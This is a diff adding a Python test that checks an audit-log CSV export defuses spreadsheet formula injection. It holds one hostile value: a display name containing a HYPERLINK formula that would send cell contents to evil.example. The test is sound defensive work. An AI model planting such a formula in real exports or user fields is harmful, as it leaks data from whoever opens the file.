@@ -335,3 +335,28 @@ def test_writers_on_many_dossiers_at_once_leave_intact_chains(keyed: Context, en
     assert counts[chain_for(owners[0][1].id)] == 1 + 18
     assert all(counts[chain_for(d.id)] == 1 + 6 for _o, d in owners[1:])
     assert _report(ctx).ok
+
+
+FORMULA_NAME = '=HYPERLINK("https://evil.example/?"&A1,"Anne")'
+
+
+def test_the_csv_export_shows_formulas_as_text_and_the_json_keeps_them(shared_world) -> None:  # type: ignore[no-untyped-def]
+    """OWASP CSV injection: a name that a spreadsheet would run reaches the auditor as text."""
+    import csv
+    import io
+
+    w = shared_world
+    ctx = w["ctx"]
+    accounts.register(
+        ctx, accounts.NewAccount("mallory@example.nl", PASSWORD, FORMULA_NAME, "parent")
+    )
+    mallory = login_actor(ctx, "mallory@example.nl")
+    filters = audit_views.EventFilters(actor=str(mallory.user_id))
+    rows = list(
+        csv.DictReader(io.StringIO(audit_views.export(ctx, w["auditor"], filters, "csv").decode()))
+    )
+    assert rows and {row["actor_name"] for row in rows} == {"'" + FORMULA_NAME}
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row.values())
+    exported = json.loads(audit_views.export(ctx, w["auditor"], filters, "json"))
+    assert {event["actor_name"] for event in exported} == {FORMULA_NAME}
